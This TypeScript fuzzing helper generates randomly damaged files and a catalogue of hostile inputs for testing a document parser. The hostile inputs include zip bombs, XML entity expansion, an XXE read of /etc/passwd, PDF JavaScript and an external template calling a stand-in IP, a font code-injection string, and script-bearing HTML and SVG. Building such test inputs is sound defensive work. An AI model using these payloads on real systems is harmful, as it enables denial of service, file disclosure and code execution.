import { strToU8, zipSync } from 'fflate';

/** For tests and the fuzzer: files made to do harm, and whole files damaged at random places, the same for the same seed. */
export class Malformed {
  readonly #bases: readonly Uint8Array[];
  #state: number;

  constructor(bases: readonly Uint8Array[], seed: number) {
    this.#bases = bases;
    this.#state = (seed * 2_654_435_761 + 1) >>> 0 || 1;
  }

  /** The next file and how it was made. */
  next(): { readonly kind: string; readonly bytes: Uint8Array } {
    if (this.#below(12) === 0) {
      const [kind, make] = HARM[this.#below(HARM.length)] ?? ['nothing', () => new Uint8Array()];
      return { kind, bytes: make((limit) => this.#below(limit)) };
    }
    const base = this.#bases[this.#below(this.#bases.length)] ?? new Uint8Array();
    const [kind, damage] = DAMAGE[this.#below(DAMAGE.length)] ?? ['whole', (bytes: Uint8Array) => bytes];
    return { kind, bytes: damage(Uint8Array.from(base), (limit) => this.#below(limit)) };
  }

  #below(limit: number): number {
    this.#state ^= this.#state << 13;
    this.#state ^= this.#state >>> 17;
    this.#state ^= this.#state << 5;
    return (this.#state >>> 0) % Math.max(1, limit);
  }
}

type Random = (limit: number) => number;

const DAMAGE: readonly (readonly [string, (bytes: Uint8Array, random: Random) => Uint8Array])[] = [
  ['bit flips', (bytes, random) => flip(bytes, random, 1 + random(12))],
  ['many bit flips', (bytes, random) => flip(bytes, random, 50 + random(2000))],
  ['cut short', (bytes, random) => bytes.subarray(0, random(bytes.length))],
  ['head cut off', (bytes, random) => bytes.subarray(random(Math.min(bytes.length, 4000)))],
  [
    'middle cut out',
    (bytes, random) => {
      const at = random(bytes.length);
      return join(bytes.subarray(0, at), bytes.subarray(at + random(5000)));
    },
  ],
  [
    'part repeated',
    (bytes, random) => {
      const at = random(bytes.length);
      const part = bytes.subarray(at, at + random(3000));
      return join(bytes.subarray(0, at), part, part, part, bytes.subarray(at));
    },
  ],
  [
    'zeros put in',
    (bytes, random) => {
      const at = random(bytes.length);
      return join(bytes.subarray(0, at), new Uint8Array(random(4000)), bytes.subarray(at));
    },
  ],
  ['numbers blown up', (bytes, random) => blowUp(bytes, random)],
  ['names exchanged', (bytes, random) => exchange(bytes, random)],
];

function flip(bytes: Uint8Array, random: Random, times: number): Uint8Array {
  for (let i = 0; i < times && bytes.length > 0; i++) {
    const at = random(bytes.length);
    bytes[at] = (bytes[at] ?? 0) ^ (1 << random(8));
  }
  return bytes;
}

/** Puts nines where digits stand: lengths, offsets, counts. */
function blowUp(bytes: Uint8Array, random: Random): Uint8Array {
  const from = random(bytes.length);
  for (let i = from, done = 0; i < bytes.length && done < 40; i++) {
    const byte = bytes[i] ?? 0;
    if (byte >= 48 && byte <= 57) {
      bytes[i] = 57;
      done++;
    }
  }
  return bytes;
}

/** Writes one part of the file over another. */
function exchange(bytes: Uint8Array, random: Random): Uint8Array {
  const length = random(400);
  bytes.copyWithin(random(bytes.length), random(bytes.length), random(bytes.length) + length);
  return bytes;
}

function join(...parts: readonly Uint8Array[]): Uint8Array {
  return Buffer.concat(parts);
}

const CONTENT_TYPES = strToU8(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
);
const rels = (target: string): Uint8Array =>
  strToU8(
    `<Relationships><Relationship Id="a" Type="http://x/officeDocument" Target="word/document.xml"/>${target}</Relationships>`,
  );

function docx(document: string | Uint8Array, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array {
  const xml = typeof document === 'string' ? strToU8(document) : document;
  return zipSync(
    { '[Content_Types].xml': CONTENT_TYPES, '_rels/.rels': rels(''), 'word/document.xml': xml, ...more },
    { level: 9 },
  );
}

const paragraph = (words: string): string => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`;

function pdf(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF`;
  return strToU8(text, true);
}

/** Files made to do harm; sizes are kept such that ten thousand of them can be made. */
const HARM: readonly (readonly [string, (random: Random) => Uint8Array])[] = [
  ['zip bomb in a DOCX', () => docx(Buffer.alloc(260 * 1024 * 1024, 32))],
  [
    'zip in a zip in a zip',
    () => {
      let inner = zipSync({ 'a.txt': new Uint8Array(1_000_000) });
      for (let i = 0; i < 6; i++) inner = zipSync({ 'b.zip': inner, 'c.zip': inner });
      return inner;
    },
  ],
  [
    'nested tables without end',
    (random) => docx(`<w:document><w:body>${'<w:tbl><w:tr><w:tc>'.repeat(500 + random(20_000))}`),
  ],
  [
    'XML entities that multiply',
    () =>
      docx(
        `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]><w:document><w:body>${paragraph('&j;')}</w:body></w:document>`,
      ),
  ],
  [
    'XML entity of a file',
    () =>
      docx(
        `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><w:document><w:body>${paragraph('&f;')}</w:body></w:document>`,
      ),
  ],
  [
    'external template',
    () =>
      docx(`<w:document><w:body>${paragraph('words')}</w:body></w:document>`, {
        'word/_rels/settings.xml.rels': rels(
          '<Relationship Id="t" Type="http://x/attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/>',
        ),
      }),
  ],
  [
    'styles based on themselves',
    () =>
      docx(
        `<w:document><w:body><w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>${paragraph('words')}</w:body></w:document>`,
        {
          'word/styles.xml': strToU8(
            '<w:styles><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>',
          ),
        },
      ),
  ],
  [
    'many entries in a zip',
    () =>
      zipSync(Object.fromEntries(Array.from({ length: 21_000 }, (_, i) => [`word/${i}.xml`, new Uint8Array()])), {
        level: 0,
      }),
  ],
  [
    'PDF with JavaScript',
    () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL("http://203.0.113.7")) >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>',
      ]),
  ],
  [
    'PDF with XFA',
    () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R >>',
        '<< /Length 60 >>\nstream\n<xdp:xdp><script>xfa.host.gotoURL("x")</script></xdp:xdp>\nendstream',
      ]),
  ],
  [
    'PDF of pages that hold themselves',
    () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>']),
  ],
  [
    'PDF with a font program of code',
    () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R >>',
        '<< /Length 30 >>\nstream\nBT /F 12 Tf (words) Tj ET\nendstream',
        '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); globalThis.pwned = 1; \\(0)] >>',
      ]),
  ],
  [
    'PDF of deep arrays',
    (random) =>
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids ${'['.repeat(2000 + random(20_000))}`]),
  ],
  [
    'PDF that unpacks for ever',
    () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
        `<< /Length 400 /Filter [${'/ASCIIHexDecode '.repeat(300)}] >>\nstream\n${'30'.repeat(200)}\nendstream`,
      ]),
  ],
  ['HTML of deep nesting', (random) => strToU8(`<html><body>${'<div><b>'.repeat(3000 + random(30_000))}words`)],
  [
    'HTML that runs and fetches',
    () =>
      strToU8(
        '<html><body><script>process.exit(1)</script><img src=x onerror=alert(1)><iframe src="file:///etc/passwd"></iframe><p>words of a page</p></body></html>',
      ),
  ],
  [
    'SVG with a script',
    () => strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>words</text></svg>'),
  ],
  [
    'HTML table of one row without end',
    (random) => strToU8(`<html><body><table><tr>${'<td>a'.repeat(20_000 + random(20_000))}`),
  ],
  [
    'picture of 65,535 by 65,535',
    () =>
      join(
        strToU8('\x89PNG\r\n\x1a\n', true),
        Uint8Array.from([0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 255, 255, 0, 0, 255, 255, 8, 2, 0, 0, 0]),
      ),
  ],
  [
    'mail in a mail in a mail',
    (random) =>
      strToU8(
        `From: a@b\nTo: c@d\nSubject: x\n${Array.from({ length: 200 + random(300) }, (_, i) => `Content-Type: multipart/mixed; boundary="b${i}"\n\n--b${i}\n`).join('')}words`,
      ),
  ],
  ['one line of a million letters', (random) => strToU8('letters and 1, 2, 3 '.repeat(30_000 + random(40_000)))],
  ['a million short lines', (random) => strToU8('1\n'.repeat(200_000 + random(100_000)))],
  [
    'brackets for an expression to trip on',
    (random) =>
      strToU8(
        `words ${'[1'.repeat(20_000 + random(20_000))} ${'see '.repeat(20_000)}section ${'1.'.repeat(5000)} ${'http://'.repeat(5000)}`,
      ),
  ],
  [
    'Markdown of open signs',
    (random) => strToU8(`# a\n\n[^1]: b\n\n${'*['.repeat(20_000 + random(20_000))}${'`'.repeat(5000)}`),
  ],
  [
    'names of many notes',
    (random) => strToU8(Array.from({ length: 3000 + random(3000) }, (_, i) => `word[${i}] word.${i} ${i}`).join('\n')),
  ],
  ['noise', (random) => Uint8Array.from({ length: 20_000 }, () => random(256))],
  [
    'noise that says it is PDF',
    (random) =>
      join(
        strToU8('%PDF-1.7\n'),
        Uint8Array.from({ length: 20_000 }, () => random(256)),
      ),
  ],
  [
    'noise that says it is a ZIP',
    (random) =>
      join(
        strToU8('PK\x03\x04word/document.xml'),
        Uint8Array.from({ length: 20_000 }, () => random(256)),
      ),
  ],
];
